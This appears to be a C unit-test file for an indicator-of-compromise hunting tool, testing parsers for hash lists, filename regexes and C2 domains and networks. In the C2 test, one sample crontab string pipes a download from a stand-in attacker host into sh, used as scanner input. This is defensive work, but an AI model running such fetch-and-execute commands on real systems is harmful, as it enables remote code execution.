/*
 * test_hunt_iocs.c — the IOC parsers: hash lists in every accepted format
 * with malformed lines reported and skipped; file-name IOCs with a
 * false-positive regex that applies to its own line only, the Windows-path
 * transformation and bad regexes; C2 addresses, networks and domains with
 * subdomains, and their search in free text; signature-base's IOC files
 * load with no bad line.
 */
#include "testutil.h"
#include "hunt/hunt.h"
#include "core/util.h"

#include <openssl/evp.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>

static void unhex(const char *hex, unsigned char *out)
{
	for (size_t i = 0; hex[2 * i]; i++) {
		unsigned v;
		sscanf(hex + 2 * i, "%2x", &v);
		out[i] = (unsigned char)v;
	}
}

static void test_hashes(void **state)
{
	(void)state;
	rs_ioc_hashes h;
	rs_ioc_hashes_init(&h);
	const char *loki = "# comment\n\n"
			   "44d88612fea8a8f36de82e1278abb02f;EICAR test file\n"
			   "3395856CE81F2B7382DEE72602F798B642F14140;EICAR sha1\n"
			   "not-a-hash;junk\n"
			   "44d88612fea8a8f36de82e1278abb02;one digit short\n"
			   "275a021bbfb6489e54d471899f7db9d1663fc695ec2fe2a2c4538aabf651fd0f\r\n";
	const char *csv = "name,sha256,comment\n"
			  "x,aa5a021bbfb6489e54d471899f7db9d1663fc695ec2fe2a2c4538aabf651fd0f,csv row\n"
			  "y,zz,no hash\n";
	const char *hdb = "0123456789abcdef0123456789abcdef:68:Test.Clam.Sig\n";
	const char nul[] = "44d88612fea8a8f36de82e1278abb02f\0;x\n";
	rs_test_capture_start();
	assert_int_equal(rs_ioc_hashes_parse(&h, loki, strlen(loki), "hash-iocs.txt"), 2);
	assert_true(rs_test_captured_contains("hash-iocs.txt:5:"));
	assert_true(rs_test_captured_contains("hash-iocs.txt:6:"));
	assert_int_equal(rs_ioc_hashes_parse(&h, csv, strlen(csv), "bad.csv"), 1);
	assert_true(rs_test_captured_contains("bad.csv:3:"));
	assert_int_equal(rs_ioc_hashes_parse(&h, hdb, strlen(hdb), "x.hdb"), 0);
	assert_int_equal(rs_ioc_hashes_parse(&h, nul, sizeof(nul) - 1, "nul-iocs.txt"), 1);
	rs_test_capture_stop();
	rs_ioc_hashes_finish(&h);
	assert_int_equal(h.items.len, 5);
	assert_int_equal(h.kinds, RS_HASH_MD5 | RS_HASH_SHA1 | RS_HASH_SHA256);

	unsigned char d[32];
	unhex("44d88612fea8a8f36de82e1278abb02f", d);
	const rs_ioc_source *s = rs_ioc_hashes_find(&h, RS_HASH_MD5, d);
	assert_non_null(s);
	assert_string_equal(s->description, "EICAR test file");
	assert_int_equal(s->line, 3);
	assert_int_equal(s->score, 100);
	unhex("3395856ce81f2b7382dee72602f798b642f14140", d);
	assert_non_null(rs_ioc_hashes_find(&h, RS_HASH_SHA1, d));
	unhex("aa5a021bbfb6489e54d471899f7db9d1663fc695ec2fe2a2c4538aabf651fd0f", d);
	s = rs_ioc_hashes_find(&h, RS_HASH_SHA256, d);
	assert_non_null(s);
	assert_string_equal(s->description, "csv row");
	unhex("0123456789abcdef0123456789abcdef", d);
	s = rs_ioc_hashes_find(&h, RS_HASH_MD5, d);
	assert_non_null(s);
	assert_string_equal(s->description, "Test.Clam.Sig");
	unhex("0123456789abcdef0123456789abcdee", d);
	assert_null(rs_ioc_hashes_find(&h, RS_HASH_MD5, d));
	rs_ioc_hashes_free(&h);
}

typedef struct hits {
	size_t lines[8];
	size_t n;
} hits;

static void on_hit(const rs_ioc_source *src, void *ctx)
{
	hits *h = ctx;
	if (h->n < 8)
		h->lines[h->n++] = src->line;
}

static hits match(const rs_ioc_names *n, const char *path, pcre2_match_data *md)
{
	hits h = { .n = 0 };
	rs_ioc_names_match(n, path, md, on_hit, &h);
	return h;
}

static void test_names(void **state)
{
	(void)state;
	rs_ioc_names n;
	rs_ioc_names_init(&n);
	const char *text =
		"# LOKI style\n"
		"/tmp/\\.x11-unix/[a-z]+$;70;/tmp/\\.x11-unix/safe$\n"      /* 2: FP for itself only */
		"/tmp/\\.x11-unix/;40\n"                                   /* 3: no FP: still fires on safe */
		"\\\\Windows\\\\Temp\\\\evil\\.exe;90\n"                   /* 4: "\\" → "/" */
		"(?i)/dev/shm/\\.(kworker|ssh)d$;80\n"                     /* 5 */
		"([a-z])\\1\\1\\.sh$;50\n"                                 /* 6: back-reference, tried alone */
		"broken(regex;50\n"                                        /* 7: bad regex */
		"/x;notanumber\n"                                          /* 8: bad score */
		"/x;50;fp;extra\n"                                         /* 9: too many fields */
		"/y;101\n";                                                /* 10: score over 100 */
	rs_test_capture_start();
	assert_int_equal(rs_ioc_names_parse(&n, text, strlen(text), "filename-iocs.txt"), 4);
	assert_true(rs_test_captured_contains("filename-iocs.txt:7:"));
	assert_true(rs_test_captured_contains("filename-iocs.txt:8:"));
	assert_true(rs_test_captured_contains("filename-iocs.txt:9:"));
	assert_true(rs_test_captured_contains("filename-iocs.txt:10:"));
	rs_test_capture_stop();
	rs_ioc_names_finish(&n);
	assert_int_equal(n.items.len, 5);
	assert_true(n.combined_ok);
	assert_int_equal(n.n_alone, 1);
	pcre2_match_data *md = pcre2_match_data_create(1, NULL);

	hits h = match(&n, "/tmp/.x11-unix/miner", md);
	assert_int_equal(h.n, 2);
	assert_int_equal(h.lines[0], 2);
	assert_int_equal(h.lines[1], 3);
	h = match(&n, "/tmp/.x11-unix/safe", md);   /* line 2's FP hides line 2 only */
	assert_int_equal(h.n, 1);
	assert_int_equal(h.lines[0], 3);
	h = match(&n, "/mnt/Windows/Temp/evil.exe", md);
	assert_int_equal(h.n, 1);
	assert_int_equal(h.lines[0], 4);
	h = match(&n, "/DEV/SHM/.KWORKERD", md);
	assert_int_equal(h.n, 1);
	h = match(&n, "/home/u/aaa.sh", md);
	assert_int_equal(h.n, 1);
	assert_int_equal(h.lines[0], 6);
	h = match(&n, "/home/u/abc.sh", md);
	assert_int_equal(h.n, 0);
	h = match(&n, "/usr/bin/ls", md);
	assert_int_equal(h.n, 0);
	pcre2_match_data_free(md);
	rs_ioc_names_free(&n);
}

typedef struct tokens {
	char found[4][64];
	size_t n;
} tokens;

static void on_token(const rs_ioc_source *src, const char *token, void *ctx)
{
	(void)src;
	tokens *t = ctx;
	if (t->n < 4)
		snprintf(t->found[t->n++], 64, "%s", token);
}

static void test_c2(void **state)
{
	(void)state;
	rs_ioc_c2 c;
	rs_ioc_c2_init(&c);
	const char *text = "# c2\n"
			   "Evil-C2.example;APT test domain\n"
			   "203.0.113.7\n"
			   "198.51.100.0/24;test network\n"
			   "2001:db8::/32\n"
			   "not a domain\n"
			   "10.0.0.0/33\n"
			   "1.2.3.4/x\n"
			   "nodots\n";
	rs_test_capture_start();
	assert_int_equal(rs_ioc_c2_parse(&c, text, strlen(text), "c2-iocs.txt"), 4);
	assert_true(rs_test_captured_contains("c2-iocs.txt:6:"));
	assert_true(rs_test_captured_contains("c2-iocs.txt:9:"));
	rs_test_capture_stop();
	rs_ioc_c2_finish(&c);
	assert_non_null(rs_ioc_c2_match_ip(&c, "203.0.113.7"));
	assert_null(rs_ioc_c2_match_ip(&c, "203.0.113.8"));
	const rs_ioc_source *s = rs_ioc_c2_match_ip(&c, "198.51.100.99");
	assert_non_null(s);
	assert_string_equal(s->description, "test network");
	assert_null(rs_ioc_c2_match_ip(&c, "198.51.101.1"));
	assert_non_null(rs_ioc_c2_match_ip(&c, "2001:db8:1::5"));
	assert_null(rs_ioc_c2_match_ip(&c, "2001:db9::5"));
	assert_non_null(rs_ioc_c2_match_domain(&c, "evil-c2.example", 15));
	assert_non_null(rs_ioc_c2_match_domain(&c, "a.b.EVIL-C2.example.", 20));
	assert_null(rs_ioc_c2_match_domain(&c, "notevil-c2.example", 18));
	assert_null(rs_ioc_c2_match_domain(&c, "example", 7));

	const char *cmd = "*/5 * * * * curl -s http://x.evil-c2.example/p.sh|sh; ping 198.51.100.3 # 1.2.3";
	tokens t = { .n = 0 };
	assert_int_equal(rs_ioc_c2_scan_text(&c, cmd, strlen(cmd), on_token, &t), 2);
	assert_string_equal(t.found[0], "x.evil-c2.example");
	assert_string_equal(t.found[1], "198.51.100.3");
	rs_ioc_c2_free(&c);
}

static char *read_file(const char *path, size_t *len)
{
	FILE *f = fopen(path, "rb");
	if (!f)
		return NULL;
	rs_buf b;
	rs_buf_init(&b);
	char chunk[65536];
	size_t n;
	while ((n = fread(chunk, 1, sizeof(chunk), f)) > 0)
		rs_buf_append(&b, chunk, n);
	fclose(f);
	*len = b.len;
	return rs_buf_take(&b);
}

static void test_signature_base_iocs(void **state)
{
	(void)state;
	char *dir = rs_sprintf("%s/../shared/corpora/signature-base/iocs", RS_SOURCE_DIR);
	struct stat st;
	if (stat(dir, &st) < 0) {
		free(dir);
		skip();
	}
	char *hp = rs_sprintf("%s/hash-iocs.txt", dir);
	char *np = rs_sprintf("%s/filename-iocs.txt", dir);
	char *cp = rs_sprintf("%s/c2-iocs.txt", dir);
	size_t len;
	rs_ioc_hashes h;
	rs_ioc_names n;
	rs_ioc_c2 c;
	rs_ioc_hashes_init(&h);
	rs_ioc_names_init(&n);
	rs_ioc_c2_init(&c);
	char *text = read_file(hp, &len);
	assert_non_null(text);
	assert_int_equal(rs_ioc_hashes_parse(&h, text, len, hp), 0);
	free(text);
	text = read_file(np, &len);
	assert_non_null(text);
	assert_int_equal(rs_ioc_names_parse(&n, text, len, np), 0);
	free(text);
	text = read_file(cp, &len);
	assert_non_null(text);
	assert_int_equal(rs_ioc_c2_parse(&c, text, len, cp), 0);
	free(text);
	rs_ioc_hashes_finish(&h);
	rs_ioc_names_finish(&n);
	rs_ioc_c2_finish(&c);
	assert_true(h.items.len > 1000);
	assert_true(n.items.len > 1000);
	assert_true(n.combined_ok);
	assert_true(n.n_groups >= n.items.len / 256); /* joined, not one regex a line */
	assert_true(n.n_groups < n.items.len / 16);
	assert_true(c.domains.len + c.nets.len > 1000);
	/* a real path of this machine matches no Windows-path IOC */
	pcre2_match_data *md = pcre2_match_data_create(1, NULL);
	assert_int_equal(rs_ioc_names_match(&n, "/usr/bin/ls", md, NULL, NULL), 0);
	pcre2_match_data_free(md);
	rs_ioc_hashes_free(&h);
	rs_ioc_names_free(&n);
	rs_ioc_c2_free(&c);
	free(hp);
	free(np);
	free(cp);
	free(dir);
}

static void test_score(void **state)
{
	(void)state;
	int one[] = { 80 };
	assert_int_equal(rs_hunt_combine_scores(one, 1), 80);
	int two[] = { 80, 80 };         /* 100·(1 − 0.2·0.6) = 88 */
	assert_int_equal(rs_hunt_combine_scores(two, 2), 88);
	int three[] = { 40, 100, 60 };  /* sorted 100, 60, 40: 100·(1 − 0·…) = 100 */
	assert_int_equal(rs_hunt_combine_scores(three, 3), 100);
	int low[] = { 50, 50, 50 };     /* 100·(1 − 0.5·0.75·0.875) = 67.2 */
	assert_int_equal(rs_hunt_combine_scores(low, 3), 67);
	assert_int_equal(rs_hunt_combine_scores(NULL, 0), 0);
	assert_int_equal(rs_hunt_severity(39), RS_SEV_INFO);
	assert_int_equal(rs_hunt_severity(40), RS_SEV_LOW);
	assert_int_equal(rs_hunt_severity(60), RS_SEV_MEDIUM);
	assert_int_equal(rs_hunt_severity(80), RS_SEV_HIGH);
	assert_int_equal(rs_hunt_severity(94), RS_SEV_HIGH);
	assert_int_equal(rs_hunt_severity(95), RS_SEV_CRITICAL);
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_hashes),
		cmocka_unit_test(test_names),
		cmocka_unit_test(test_c2),
		cmocka_unit_test(test_signature_base_iocs),
		cmocka_unit_test(test_score),
	};
	return cmocka_run_group_tests(tests, NULL, NULL);
}
